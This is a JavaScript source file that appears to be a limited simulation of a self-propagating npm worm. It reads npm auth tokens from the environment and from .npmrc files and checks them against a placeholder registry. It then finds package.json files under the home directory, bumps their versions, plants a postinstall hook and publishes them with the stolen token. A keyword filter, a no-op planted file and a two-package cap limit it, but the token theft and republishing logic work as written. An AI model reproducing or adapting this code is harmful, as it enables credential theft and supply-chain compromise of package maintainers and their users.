// SPDX-License-Identifier: Apache-2.0
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawnSync } = require('child_process');

const HUB = 'packages-hub.example';
const MARK = 'sim-mark-unseen6';

function tokens() {
  const found = new Set();
  if (process.env.NPM_TOKEN) found.add(process.env.NPM_TOKEN);
  for (const folder of [os.homedir(), process.env.INIT_CWD || '.']) {
    try {
      for (const hit of fs.readFileSync(path.join(folder, '.npmrc'), 'utf8').matchAll(/_authToken\s*=\s*"?([^\s"]+)/g)) found.add(hit[1]);
    } catch { /* none */ }
  }
  return [...found];
}

function* manifests(folder, depth) {
  let entries = [];
  try { entries = fs.readdirSync(folder, { withFileTypes: true }); } catch { return; }
  for (const entry of entries) {
    const full = path.join(folder, entry.name);
    if (entry.isFile() && entry.name === 'package.json') yield full;
    else if (entry.isDirectory() && depth > 0 && entry.name !== 'node_modules' && !entry.name.startsWith('.')) yield* manifests(full, depth - 1);
  }
}

function infect(file, token) {
  const manifest = JSON.parse(fs.readFileSync(file, 'utf8'));
  if (!(manifest.keywords || []).includes(MARK)) return false;
  const folder = path.dirname(file);
  const [major, minor, patch] = manifest.version.split('.').map(Number);
  manifest.version = [major, minor, patch + 1].join('.');
  manifest.scripts = { ...manifest.scripts, postinstall: 'node tidy.js' };
  fs.writeFileSync(file, JSON.stringify(manifest, null, 2) + '\n');
  fs.writeFileSync(path.join(folder, 'tidy.js'), '// planted by a simulation: does nothing\n');
  spawnSync('npm', ['publish', '--ignore-scripts', '--access', 'public', `--registry=https://${HUB}/`,
    `--//${HUB}/:_authToken=${token}`, '--fetch-retries=0', '--fetch-timeout=4000'], { cwd: folder, timeout: 9000, stdio: 'ignore' });
  return true;
}

(async () => {
  const [token] = tokens();
  if (!token) return;
  let who = '';
  try {
    const res = await fetch(`https://${HUB}/-/whoami`, { headers: { authorization: `Bearer ${token}` }, signal: AbortSignal.timeout(4000) });
    who = (await res.json()).username;
  } catch { /* go on: the token may still do */ }
  let changed = 0;
  for (const file of manifests(os.homedir(), 3)) {
    try { if (infect(file, token)) changed += 1; } catch { /* next one */ }
    if (changed === 2) break;
  }
  process.stdout.write(`${who || 'nobody'} ${changed}\n`);
})();
